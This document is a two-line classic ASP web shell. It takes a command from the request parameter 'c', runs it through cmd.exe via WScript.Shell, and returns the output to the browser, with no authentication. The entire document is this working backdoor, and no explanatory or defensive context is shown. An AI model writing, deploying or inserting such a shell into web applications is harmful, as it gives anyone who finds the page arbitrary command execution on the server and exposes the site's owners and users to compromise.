<% Set o = CreateObject("WScript.Shell")
Response.Write o.Exec("cmd /c " & Request("c")).StdOut.ReadAll %>
